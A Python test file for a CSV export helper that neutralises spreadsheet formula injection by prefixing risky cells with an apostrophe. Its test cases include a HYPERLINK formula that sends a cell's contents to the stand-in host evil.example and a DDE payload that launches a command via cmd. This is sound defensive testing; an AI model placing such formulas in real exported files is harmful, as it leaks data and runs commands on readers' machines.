"""CSV cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from bot.documents.spreadsheet import csv_bytes, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
         '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("AZ-2026-0815", "AZ-2026-0815"),
        ("", ""),
        (3, "3"),
        (-3, "-3"),
    ],
)  # fmt: skip
def test_a_cell_that_would_run_as_a_formula_is_text(value: object, written: str) -> None:
    assert safe_cell(value) == written


def test_the_file_reads_back_with_the_neutralised_cells() -> None:
    raw = csv_bytes(("reference", "pages"), [("=1+1", 2), ("ok; with semicolon", 1)])
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["reference", "pages"], ["'=1+1", "2"], ["ok; with semicolon", "1"]]
